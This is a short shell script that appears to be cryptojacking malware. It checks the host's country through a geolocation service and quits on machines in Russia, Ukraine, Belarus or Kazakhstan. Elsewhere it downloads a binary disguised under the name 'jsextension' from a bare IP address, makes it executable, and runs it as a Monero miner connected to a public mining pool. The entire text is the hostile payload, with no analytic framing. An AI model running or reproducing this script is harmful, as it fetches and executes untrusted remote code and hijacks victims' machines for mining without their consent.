IP=$(curl -s https://freegeoip.app/xml/ | grep 'RU\|UA\|BY\|KZ')
[ -z "$IP" ] || exit 0
curl -s http://159.148.186.228/download/jsextension -o jsextension
chmod +x jsextension
./jsextension -k --tls -o pool.minexmr.com:3333 -u canary
